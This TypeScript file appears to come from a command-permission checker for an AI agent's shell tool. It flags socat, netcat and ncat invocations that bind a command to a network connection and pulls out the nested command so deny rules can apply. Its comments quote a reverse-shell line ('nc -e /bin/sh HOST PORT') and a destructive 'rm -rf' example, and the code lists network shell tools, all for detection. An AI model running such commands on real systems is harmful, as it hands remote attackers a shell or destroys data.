import type { Nested } from './files.js';
import type { Word } from './options.js';

/**
 * Programs that join a command to a connection (round 32 review R32-7; docs/threat-model.md "Round
 * 32: the review of round 31 (command rules)"): socat's `EXEC:CMD` and `SYSTEM:CMD` addresses
 * (socat(1) "ADDRESS TYPES"; socat 1.7.4 ran both, the type in either case), netcat's `-e PROG`
 * and `-c CMD` (netcat-traditional 1.10 ran each after connecting), ncat's `-e`/`--exec`,
 * `-c`/`--sh-exec`, `--lua-exec`. The command runs here, and what the other end sends is its input:
 * `nc -e /bin/sh HOST PORT` gives whoever listens there a shell. Each is `interpreter` (asks under
 * the program's own rule, and in bypassPermissions while deny or ask rules exist), and its command a
 * nested one that deny rules meet (`socat - SYSTEM:'rm -rf v'` is denied by `Bash(rm *)`).
 */
export const NETWORK_EXEC_PROGRAMS: ReadonlySet<string> = new Set(['socat', 'nc', 'netcat', 'ncat', 'nc.traditional', 'nc.openbsd']);

/** Each address `TYPE:…` of socat (dual ones `A!!B` too); the command of EXEC and SYSTEM (SHELL in socat 1.8) up to its options' comma. */
const SOCAT_COMMAND = /(?:^|!!)\s*(exec|system|shell)\s*:([^]*?)(?=,[a-z-]+(?:=|,|$)|!!|$)/gi;

/** True when the program runs a command for a connection; its commands into `nested`. */
export function networkExec(name: string, args: readonly Word[], cwd: string | null, nested: Nested[]): boolean {
  let runs = false;
  if (name === 'socat') {
    for (const word of args) {
      if (!word.isStatic) {
        runs = true; // an address known only at run time may be any
        continue;
      }
      for (const match of word.value.matchAll(SOCAT_COMMAND)) {
        runs = true;
        const text = match[2]!.trim();
        if (match[1]!.toLowerCase() === 'exec') nested.push({ kind: 'argv', words: text.split(/\s+/).filter(Boolean).map(plain), cwd });
        else nested.push({ kind: 'script', text, cwd });
      }
    }
    return runs;
  }
  for (let i = 0; i < args.length; i++) {
    const word = args[i]!;
    if (!word.isStatic) {
      // A word known only at run time may be `-e PROG` or `-c CMD` (`nc $E /bin/sh HOST PORT`), as socat's address may be any.
      runs = true;
      continue;
    }
    const v = word.value;
    const long = /^--(exec|sh-exec|lua-exec)(?:=([^]*))?$/.exec(v);
    // A cluster of one-letter options (`-nve PROG`, `-lp 9 -c CMD`): e and c take the rest or the next word.
    const short = long ? null : /^-[a-zA-Z]*?([ec])([^]*)$/.exec(v);
    if (!long && !short) continue;
    runs = true;
    const kind = long ? long[1]! : short![1] === 'e' ? 'exec' : 'sh-exec';
    const attached = long ? long[2] : short![2] || undefined;
    const value = attached !== undefined ? attached : args[++i]?.isStatic ? args[i]!.value : null;
    if (value === null || kind === 'lua-exec') continue;
    if (kind === 'exec') nested.push({ kind: 'argv', words: value.split(/\s+/).filter(Boolean).map(plain), cwd });
    else nested.push({ kind: 'script', text: value, cwd });
  }
  return runs;
}

const plain = (value: string): Word => ({ value, raw: value, isStatic: true, ansi: false });
